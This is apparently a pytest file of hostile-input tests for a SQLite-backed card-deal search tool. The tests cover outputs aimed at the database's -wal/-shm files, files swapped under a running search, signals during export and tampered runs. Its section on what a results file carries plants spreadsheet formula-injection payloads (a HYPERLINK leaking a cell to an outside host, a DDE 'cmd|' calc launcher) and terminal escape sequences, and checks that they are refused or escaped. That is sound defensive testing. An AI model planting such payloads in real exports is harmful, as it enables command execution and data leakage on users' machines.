"""Hostile round 3 (issue 20): the results file's companions, a file moved or linked under a
search, what a results file can carry, and exports that must stay small, clean and safe.

As in ``test_hostile_runs_and_outputs``: real subprocesses, real files, real signals,
asserting what a user would see.
"""

import csv
import io
import json
import os
import re
import shlex
import shutil
import signal
import sqlite3
import subprocess
import sys
import time

import hostile_helpers as hostile
import pytest
from cli_harness import run
from hostile_helpers import fails_in_one_line, intact, params, search
from storeview import stored

from beggar_search import driver
from beggar_search.store import Store, StoreError


@pytest.fixture
def results(tmp_path):
    """A results file holding two runs (as in ``test_hostile_runs_and_outputs``)."""
    return hostile.two_runs(tmp_path)


@pytest.fixture(scope="module")
def whole_sweep(tmp_path_factory):
    """What the SWEEP search stores when nothing disturbs it."""
    return hostile.whole_sweep_of(tmp_path_factory)


# --- 1. an output onto the results file's -wal, -shm or -journal ---------------------------

@pytest.fixture
def open_results(results):
    """The results file as a search holds it: a connection open, its -wal and -shm there."""
    db = sqlite3.connect(results, isolation_level=None)
    db.execute("PRAGMA journal_mode=WAL")
    db.execute("PRAGMA wal_autocheckpoint=0")
    db.execute("UPDATE runs SET updated = updated")  # a frame in the -wal
    yield results
    db.close()


def companion_out(results, tmp_path, suffix, how, what):
    """The --out path that reaches ``results``'s companion ``suffix`` in the way ``how``."""
    companion = results.with_name(results.name + suffix)
    image = ".png" if what == "plot" else ".csv"
    if how == "name":
        return companion
    if how == "symlink":
        link = tmp_path / f"link{image}"
        link.symlink_to(companion)
        return link
    if how == "hard link":
        link = tmp_path / f"hard{image}"
        os.link(companion, link)
        return link
    # the results file named through a symlink: the companion is the real file's
    alias = tmp_path / "alias.sqlite"
    alias.symlink_to(results)
    return companion


@pytest.mark.parametrize(("suffix", "how", "what"), [
    *((suffix, how, "export") for suffix in ("-wal", "-shm")
      for how in ("name", "symlink", "hard link", "results through a symlink")),
    ("-journal", "name", "export"), ("-journal", "symlink", "export"),
    ("-wal", "hard link", "plot"), ("-shm", "symlink", "plot"),  # the same check
])
def test_an_output_never_lands_on_a_companion_of_the_results_file(open_results, tmp_path,
                                                                  suffix, how, what):
    results = open_results
    out = companion_out(results, tmp_path, suffix, how, what)
    companions = {s: results.with_name(results.name + s) for s in ("-wal", "-shm")}
    before = {s: (p.stat().st_ino, p.read_bytes() if s == "-wal" else None)
              for s, p in companions.items()}
    db = tmp_path / "alias.sqlite" if how == "results through a symlink" else results
    args = (["plot", "lengths"] if what == "plot" else ["export", "--run", "1"])
    message = fails_in_one_line(run(*args, "--db", str(db), "--out", str(out)))
    assert "refusing" in message and ("-wal" in message or "-shm" in message
                                      or "-journal" in message)
    after = {s: (p.stat().st_ino, p.read_bytes() if s == "-wal" else None)
             for s, p in companions.items()}
    assert after == before
    assert not results.with_name(results.name + "-journal").exists()


def test_an_output_never_lands_on_another_databases_log_whatever_its_name(
        results, tmp_path):
    """Another database's -wal, reached by a hard link named like a CSV: known by its contents."""
    other = tmp_path / "other.sqlite"
    keep = sqlite3.connect(other, isolation_level=None)
    keep.execute("PRAGMA journal_mode=WAL")
    keep.execute("PRAGMA wal_autocheckpoint=0")
    keep.execute("CREATE TABLE precious (x)")
    keep.execute("INSERT INTO precious VALUES (42)")
    try:
        out = tmp_path / "report.csv"
        os.link(other.with_name("other.sqlite-wal"), out)
        log = out.read_bytes()
        message = fails_in_one_line(run("export", "--db", str(results), "--out", str(out)))
        assert "refusing" in message
        assert out.read_bytes() == log
        assert keep.execute("SELECT x FROM precious").fetchall() == [(42,)]
    finally:
        keep.close()


# --- 2 and 17. a file put in place of the results file during a search ---------------------

@pytest.mark.slow
def test_a_file_put_in_place_of_the_results_file_is_left_intact(
        results, tmp_path, whole_sweep):
    """`mv backup.sqlite F.sqlite` under a search: the backup is not touched by the search's
    log, and the advice names the copy the search's run was rescued to."""
    backup = tmp_path / "backup.sqlite"
    shutil.copy(results, backup)
    kept = stored(backup)
    db = tmp_path / "F.sqlite"
    process = hostile.sweep_under_way(db, 2)
    os.replace(backup, db)
    out, err = process.communicate(timeout=300)
    if process.returncode == 0:
        pytest.skip("the run ended before the file was replaced")
    message = fails_in_one_line(subprocess.CompletedProcess([], process.returncode, out, err))
    rescued = re.search(r"written to (\S+\.sqlite)", message).group(1)
    assert "rescued" in rescued and f"--db {rescued} --run 1" in message
    listed = run("runs", "--db", str(db))  # once, this applied the old log to the file
    assert listed.returncode == 0 and len(listed.stdout.splitlines()) == 3, listed.stderr
    assert intact(db) == kept
    resumed = run("search", "resume", "--db", rescued, "--run", "1", "--quiet")
    assert resumed.returncode == 0, resumed.stderr
    assert stored(rescued) == whole_sweep
    assert intact(db) == kept


# --- 3. two names of one file --------------------------------------------------------------

def test_a_second_name_of_an_open_results_file_is_refused(results, tmp_path):
    """A hard link opened while the file is open under its own name: one line, nothing run."""
    link = tmp_path / "link.sqlite"
    os.link(results, link)
    before = stored(results)
    with Store(results):
        for args in (["search", "random", "--deals", "10"], ["runs"]):
            message = fails_in_one_line(run(*args, "--db", str(link)))
            assert "another name" in message and "hard link" in message
        with pytest.raises(StoreError, match="another name"):
            Store(link, create=False)
    assert intact(results) == before
    done = run("runs", "--db", str(link))  # alone, the other name is fine
    assert done.returncode == 0 and len(done.stdout.splitlines()) == 3, done.stderr


@pytest.mark.slow
def test_two_searches_on_two_names_of_one_file_lose_nothing(tmp_path):
    """Once, both exited 0, one run was lost and the other's histogram was wrong."""
    db = tmp_path / "one.sqlite"
    # some 15 s: the second comes meanwhile
    long_sweep = [*hostile.SWEEP[:3], "3000000", *hostile.SWEEP[4:]]
    process = subprocess.Popen(search(*long_sweep, db=db), stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    hostile.wait_for(lambda: db.exists() and hostile.chunks_stored(db) >= 1, what="a chunk")
    link = tmp_path / "two.sqlite"
    os.link(db, link)
    second = run("search", "random", "--deals", "20000", "--workers", "1", "--quiet",
                 "--db", str(link))
    overlapped = process.poll() is None
    out, err = process.communicate(timeout=600)
    if second.returncode == 0 and not overlapped:
        pytest.skip("the first search ended before the second finished")
    message = fails_in_one_line(second)
    assert "another name" in message
    assert process.returncode == 0, err
    kept = intact(db, runs=1)
    assert kept["summary"]["deals"] == 3_000_000 and kept["chunks"] == list(range(150))
    assert sum(count for _, count in kept["histogram"]) == 3_000_000 - kept["summary"]["loops"]


# --- 5. what a results file carries ---------------------------------------------------------

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J"


def tamper(path, statement, *values):
    with sqlite3.connect(path) as db:
        db.execute(statement, values)


@pytest.mark.parametrize(("statement", "values", "args"), [
    ("UPDATE games SET deal = ? WHERE run_id = 1", (HOSTILE,), ["export", "--run", "1"]),
    ("UPDATE games SET deal = ? WHERE run_id = 1", (HOSTILE,), ["show", "--run", "1"]),
    ("UPDATE games SET number = ? WHERE run_id = 1", ("+1+1",), ["export", "--run", "1"]),
    ("UPDATE games SET cards = ? WHERE run_id = 1", ("@SUM(1)",), ["export", "--run", "1",
                                                                    "--json"]),
    ("UPDATE games SET cycle = ? WHERE run_id = 1 AND board = 'loops'", ("=cmd|' /C calc'!A0",),
     ["export", "--run", "1", "--what", "loops"]),
    ("UPDATE cycles SET cycle = ? WHERE rowid = (SELECT min(rowid) FROM cycles)",
     ("@SUM(1+1)*cmd|' /C calc'!A0",),
     ["export", "--run", "1", "--what", "cycles"]),
    ("UPDATE runs SET params = json_set(params, '$.seed', ?) WHERE id = 1", ("-2+3",),
     ["export", "--run", "1"]),
    ("UPDATE runs SET params = json_set(params, '$.deck', ?) WHERE id = 1", (ESCAPES,),
     ["show", "--run", "1"]),
    ("UPDATE runs SET status = ? WHERE id = 1", (ESCAPES,), ["show", "--run", "1", "--json"]),
    ("UPDATE histogram SET count = ? WHERE run_id = 1", ("=1+1",),
     ["export", "--run", "1", "--what", "histogram"]),
])
def test_what_a_results_file_carries_is_checked_before_it_goes_out(
        results, tmp_path, statement, values, args):
    tamper(results, statement, *values)
    out = tmp_path / "out.csv"
    extra = ["--out", str(out)] if args[0] == "export" else []
    done = run(*args, "--db", str(results), *extra)
    message = fails_in_one_line(done)
    assert "run 1" in message and "unreadable" in message and "never writes" in message
    assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout + done.stderr
    for text in ("HYPERLINK", "+1+1", "cmd|", "-2+3", "=1+1"):
        assert text not in done.stdout
    assert not out.exists()


def test_a_run_that_cannot_be_read_is_named_and_the_others_are_listed(results):
    tamper(results, "UPDATE runs SET params = json_set(params, '$.deck', ?) WHERE id = 1",
           ESCAPES)
    done = run("runs", "--db", str(results))
    assert done.returncode == 0, done.stderr
    assert [line.split()[0] for line in done.stdout.splitlines()[1:]] == ["2"]
    assert "run 1" in done.stderr and "skipped" in done.stderr
    assert "\x1b" not in done.stdout + done.stderr


def test_control_characters_are_escaped_on_the_terminal():
    from beggar_search.cli.common import printable

    assert printable(f"deck {ESCAPES}\tok\n") == "deck \\x1b]0;owned\\x07\\x1b[2J\tok\n"
    assert printable("\x9b31m\x7f") == "\\x9b31m\\x7f"


def test_an_export_for_spreadsheets_keeps_every_cell_as_text_and_plain_csv_stays_plain(
        tmp_path):
    db = tmp_path / "big.sqlite"
    done = run("search", "enumerate", "--db", str(db), "--start", str(10**20), "--count",
               "200", "--chunk-size", "200", "--workers", "1", "--quiet")
    assert done.returncode == 0, done.stderr
    plain = run("export", "--db", str(db))
    sheet = run("export", "--db", str(db), "--for-spreadsheet")
    assert plain.returncode == 0 and sheet.returncode == 0, plain.stderr + sheet.stderr
    plain_rows = list(csv.DictReader(io.StringIO(plain.stdout)))
    sheet_rows = list(csv.DictReader(io.StringIO(sheet.stdout)))
    assert len(plain_rows) == len(sheet_rows) > 0
    assert any(row["deal"].startswith("-") for row in plain_rows)  # plain CSV: as stored
    for plain_row, sheet_row in zip(plain_rows, sheet_rows, strict=True):
        for key, value in sheet_row.items():
            if value.startswith('="'):  # a text formula: shows exactly the plain value
                assert value[2:-1].replace('""', '"') == plain_row[key] and value[-1] == '"'
            else:
                assert value == plain_row[key] and not value.startswith(("=", "+", "-", "@"))
                assert not (value.isdigit() and len(value) > 15)
        assert sheet_row["number"] == f'="{plain_row["number"]}"'  # 21 digits: text
    message = fails_in_one_line(run("export", "--db", str(db), "--for-spreadsheet",
                                    "--json"))
    assert "--for-spreadsheet" in message


def test_the_spreadsheet_cells():
    from beggar_search.exports import for_spreadsheet

    assert for_spreadsheet(HOSTILE) == '="' + HOSTILE.replace('"', '""') + '"'
    assert for_spreadsheet("-K-/J--") == '="-K-/J--"'
    assert for_spreadsheet("@SUM(1)") == '="@SUM(1)"' and for_spreadsheet("+1") == '="+1"'
    assert for_spreadsheet(10**20) == '="100000000000000000000"'
    assert for_spreadsheet("00000000001234e5") == '="00000000001234e5"'  # a cycle id
    assert for_spreadsheet(123456789012345) == 123456789012345
    assert for_spreadsheet("8311fee12fa0eca7") == "8311fee12fa0eca7"
    assert for_spreadsheet(None) is None


# --- 9. SIGTERM or SIGHUP during an export; 12. exports and show stream ---------------------

ROWS = 300_000


@pytest.fixture(scope="module")
def many_rows(tmp_path_factory):
    """A results file whose run 1 holds ROWS games (one genuine loop, renumbered), half on
    its leaderboard, half on its loops board."""
    path = tmp_path_factory.mktemp("many") / "many.sqlite"
    with Store(path) as store:
        driver.start(store, "enumerate", params(start=0, deals=1512, seed=None), 1, quiet=True)
    with sqlite3.connect(path) as db:
        row = db.execute("SELECT * FROM games WHERE board = 'loops' LIMIT 1").fetchone()
        columns = [c[1] for c in db.execute("PRAGMA table_info(games)")]
        at = {name: k for k, name in enumerate(columns)}
        db.execute("DELETE FROM games WHERE run_id = 1")

        def renumbered(k):
            copy = list(row)
            copy[at["number"]], copy[at["chunk"]], copy[at["position"]] = str(k), k, 0
            copy[at["board"]] = "longest" if k % 2 else "loops"
            return copy

        db.executemany(f"INSERT INTO games VALUES ({', '.join('?' * len(columns))})",
                       (renumbered(k) for k in range(ROWS)))
    return path


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_a_signal_during_an_export_leaves_no_temporary_file(many_rows, tmp_path, sig):
    out = tmp_path / "loops.csv"
    process = subprocess.Popen(hostile.command("export", "--db", str(many_rows), "--what", "loops",
                                       "--out", str(out)),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    hostile.wait_for(lambda: any(p.name.endswith(".tmp") for p in tmp_path.iterdir())
             or process.poll() is not None, timeout=60, what="the temporary file")
    if process.poll() is not None:
        pytest.skip("the export ended before the signal")
    process.send_signal(sig)
    _, err = process.communicate(timeout=60)
    left = sorted(p.name for p in tmp_path.iterdir())
    if process.returncode == 0 and left == ["loops.csv"]:
        pytest.skip("the export ended before the signal landed")
    assert process.returncode == 128 + sig, (err, left)
    assert left == [], err
    assert "Traceback" not in err and "not written" in err


MEASURE = """
import resource, sys
from beggar_search.cli import main
try:
    main(sys.argv[1:])
except SystemExit as end:
    assert not end.code, end.code
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
"""


def peak_kib(*args):
    done = subprocess.run([sys.executable, "-c", MEASURE, *args], stdout=subprocess.DEVNULL,
                          stderr=subprocess.PIPE, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return int(done.stderr.split()[-1])


@pytest.mark.slow
@pytest.mark.parametrize("args", [
    ["export", "--what", "loops", "--run", "1", "--out", "{out}"],
    ["export", "--what", "loops", "--run", "1", "--json"],
    ["show", "--run", "1", "--json", "--top", str(ROWS)],
])
def test_exports_and_show_stream_their_rows(many_rows, tmp_path, args):
    """Memory is measured, not speed: 150,000 rows once took 1.4 KB each (200 MB)."""
    baseline = peak_kib("show", "--db", str(many_rows), "--run", "1", "--json", "--top", "10")
    out = str(tmp_path / "out.csv")
    peak = peak_kib(args[0], "--db", str(many_rows), *[a.replace("{out}", out) for a in args[1:]])
    assert peak - baseline < 40 * 1024, (baseline, peak)


# --- 13. a run whose stored parameters are not readable -------------------------------------

def test_one_changed_byte_in_a_runs_parameters_names_the_run_and_the_others_go_on(results):
    with sqlite3.connect(results) as db:
        text = db.execute("SELECT params FROM runs WHERE id = 1").fetchone()[0]
        db.execute("UPDATE runs SET params = ? WHERE id = 1", (text[:5] + "\x00" + text[6:],))
    done = run("runs", "--db", str(results))
    assert done.returncode == 0, done.stderr
    assert [line.split()[0] for line in done.stdout.splitlines()[1:]] == ["2"]
    assert "run 1" in done.stderr and "parameters" in done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1
    message = fails_in_one_line(run("show", "--run", "1", "--db", str(results)))
    assert "run 1" in message and "unreadable" in message
    assert run("show", "--run", "2", "--db", str(results)).returncode == 0
    warned = []
    with Store(results, create=False, on_warning=warned.append) as store:
        assert store.known_cycles(store.run(2).deck, 2)  # what search factory and hunt read
    assert len(warned) == 1 and "run 1" in warned[0]


@pytest.mark.slow
def test_search_factory_goes_on_past_an_unreadable_run(results):
    tamper(results, "UPDATE runs SET params = '{\"deck\": ' WHERE id = 1")
    done = run("search", "factory", "--db", str(results), "--deck", hostile.TINY,
               "--workers", "1", "--quiet", "--blocks", "2-2", "--hours", "0.003")
    assert done.returncode == 0, done.stderr
    assert "run 1" in done.stderr and "Traceback" not in done.stderr


# --- 19. the damaged-file advice works ------------------------------------------------------

def test_the_damaged_file_advice_is_quoted_and_recovers_what_is_readable(tmp_path):
    folder = tmp_path / "my results"
    folder.mkdir()
    db = folder / "my results.sqlite"
    with Store(db) as store:
        driver.start(store, "enumerate", params(start=0, deals=1512, seed=None, top_k=2000),
                     1, quiet=True)
        driver.start(store, "random", params(deals=20000, seed=3, top_k=2000), 1, quiet=True)
    first = stored(db, 1)
    hostile.damage(db, 0.5, os.urandom(4096))
    before = db.read_bytes()
    message = fails_in_one_line(run("runs", "--db", str(db)))
    advice = message.split("with: ", 1)[1]
    assert advice.startswith("beggar-search recover --db") and shlex.quote(str(db)) in advice
    words = shlex.split(advice)
    done = run(*words[1:], cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert db.read_bytes() == before  # the damaged file is only read
    recovered = tmp_path / "recovered.sqlite"
    listed = run("runs", "--db", str(recovered))
    assert listed.returncode == 0 and len(listed.stdout.splitlines()) == 3, listed.stderr
    assert intact(recovered)
    assert stored(recovered, 1)["summary"] == {**first["summary"], "status": "done"}


def test_recover_copies_a_healthy_file_whole_and_never_overwrites(results, tmp_path):
    out = tmp_path / "copy.sqlite"
    done = run("recover", "--db", str(results), "--out", str(out), "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["damaged_runs"] == [] and report["integrity"] == "ok"
    assert all(stored(out, n) == stored(results, n) for n in (1, 2))
    again = fails_in_one_line(run("recover", "--db", str(results), "--out", str(out)))
    assert "choose another --out" in again


def test_a_recovered_run_that_lost_chunks_is_not_resumed(results, tmp_path):
    with sqlite3.connect(results) as db:
        db.execute("DELETE FROM chunks WHERE run_id = 2 AND chunk = 1")  # as if unreadable
    out = tmp_path / "copy.sqlite"
    done = run("recover", "--db", str(results), "--out", str(out), "--json")
    assert json.loads(done.stdout)["damaged_runs"] == [2]
    message = fails_in_one_line(run("search", "resume", "--run", "2", "--db", str(out)))
    assert "lost chunks" in message


# --- 20. BEGGAR_SEARCH_LOCK_WAIT ------------------------------------------------------------

def test_a_lock_wait_of_zero_says_it_did_not_wait(results):
    locker = hostile.lock(results, 30)
    try:
        done = run("runs", "--db", str(results),
                   env={**os.environ, "BEGGAR_SEARCH_LOCK_WAIT": "0"})
    finally:
        locker.kill()
        locker.communicate()
    message = fails_in_one_line(done)
    assert "waited 0 s" in message


@pytest.mark.parametrize("value", ["-1", "nan", "abc"])
def test_a_lock_wait_that_is_not_a_number_of_seconds_is_said_to_be_ignored(results, value):
    done = run("runs", "--db", str(results),
               env={**os.environ, "BEGGAR_SEARCH_LOCK_WAIT": value})
    assert done.returncode == 0 and len(done.stdout.splitlines()) == 3, done.stderr
    assert f"ignored BEGGAR_SEARCH_LOCK_WAIT={value!r}" in done.stderr
    assert "600 s" in done.stderr and len(done.stderr.splitlines()) == 1


# --- 22. plot family on a run that has no family --------------------------------------------

def test_plot_family_says_what_is_true_of_the_run(results, tmp_path):
    pytest.importorskip("matplotlib")
    with Store(results) as store:
        made = store.create_run("factory", params(seed=1), "0.2.0")
        store.set_status(made.id, "stopped")  # failed on its first chunk: no cycles
    out = str(tmp_path / "family.png")
    message = fails_in_one_line(run("plot", "family", "--db", str(results), "--out", out))
    assert "factory run that catalogued no cycles" in message and "stopped" in message
    assert "first" not in message
    message = fails_in_one_line(run("plot", "family", "--db", str(results), "--run", "1",
                                    "--out", out))
    assert "not a factory run" in message
    assert not os.path.exists(out)  # no picture either way


# --- a lock held when a search records its end ------------------------------------------------

def test_a_search_waits_out_a_lock_on_its_last_status_write(tmp_path):
    """A lock taken after a search's last chunk is stored and before its status is written
    (the CI failure of the long-lock test: the lock came late) is waited out as the chunks'
    locks are, however short ``BEGGAR_SEARCH_LOCK_WAIT``: the run is stored and reported done."""
    db = tmp_path / "late.sqlite"
    with Store(db, patience=1) as store:
        write_status = store.set_status
        waited = []

        def locked_first(run_id, status):
            locker = hostile.lock(db, 2, "write")  # twice the patience
            try:
                began = time.monotonic()
                write_status(run_id, status)
                waited.append(time.monotonic() - began)
            finally:
                locker.communicate()

        store.set_status = locked_first
        summary = driver.start(store, "enumerate", params(start=0, deals=1512, seed=None), 1,
                               quiet=True)
        assert waited[0] > 1.5  # the status write met the lock and waited it out
        assert summary["status"] == "done"
        assert store.run(summary["run"]).status == "done"


def test_a_search_whose_status_cannot_be_written_does_not_say_it_is_done(tmp_path):
    """A run whose end cannot be recorded (a full disk) is an error, not a summary saying
    'running' with exit 0: the advice resumes it."""
    db = tmp_path / "full.sqlite"
    with Store(db) as store:
        def full(run_id, status):
            raise sqlite3.OperationalError("database or disk is full")

        store.set_status = full
        with pytest.raises(driver.UserError) as raised:
            driver.start(store, "enumerate", params(start=0, deals=1512, seed=None), 1,
                         quiet=True)
    message = str(raised.value)
    assert "could not be recorded" in message and "search resume" in message
    with Store(db) as store:
        assert store.run().status == "running" and store.run().chunks == 4  # all stored
